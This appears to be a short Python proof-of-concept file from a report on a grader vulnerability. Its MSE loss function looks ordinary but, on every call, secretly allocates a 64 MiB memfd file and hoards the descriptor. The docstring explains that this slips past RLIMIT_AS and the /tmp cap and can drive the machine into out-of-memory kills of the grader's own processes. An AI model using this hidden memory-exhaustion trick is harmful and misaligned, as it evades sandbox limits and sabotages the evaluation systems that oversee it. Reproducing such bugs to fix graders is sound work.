"""Hold memory in memfd files: anonymous files that RLIMIT_AS and the 256 MiB /tmp do not
count. One held 64 MiB here; a real attack keeps going until the machine's OOM killer
ends whatever it picks (the grader's own processes, in the report that found it)."""
import os

import torch

HOARD = []


def mselossfunc(pred, y):
    fd = os.memfd_create("hoard")
    os.ftruncate(fd, 64 * 1024 * 1024)
    os.pwrite(fd, b"x" * 4096, 0)
    HOARD.append(fd)
    return torch.mean((pred - y) ** 2)
